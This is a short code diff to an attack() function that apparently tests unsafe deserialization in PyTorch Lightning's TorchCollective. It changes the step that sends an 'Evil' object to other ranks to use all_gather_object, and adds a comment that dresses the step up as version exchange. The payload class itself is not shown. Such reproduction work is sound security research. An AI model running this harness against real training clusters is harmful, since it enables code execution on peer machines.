@@ -61,7 +61,9 @@ def attack():
     collective = TorchCollective()
     try:
         collective.collective_setup(context=context)
-        collective.collective_broadcast_object(obj=Evil(), src=1, group=None)
+        # Ranks that run other versions tell each other which, as objects.
+        collective.collective_all_gather(tensor=torch.zeros(8, dtype=torch.int32), group=None, sync_grads=False)
+        collective.collective_all_gather_object(obj=Evil(), group=None)
     except BaseException as error:
         print("attack failed:", type(error).__name__, flush=True)
     os._exit(0)
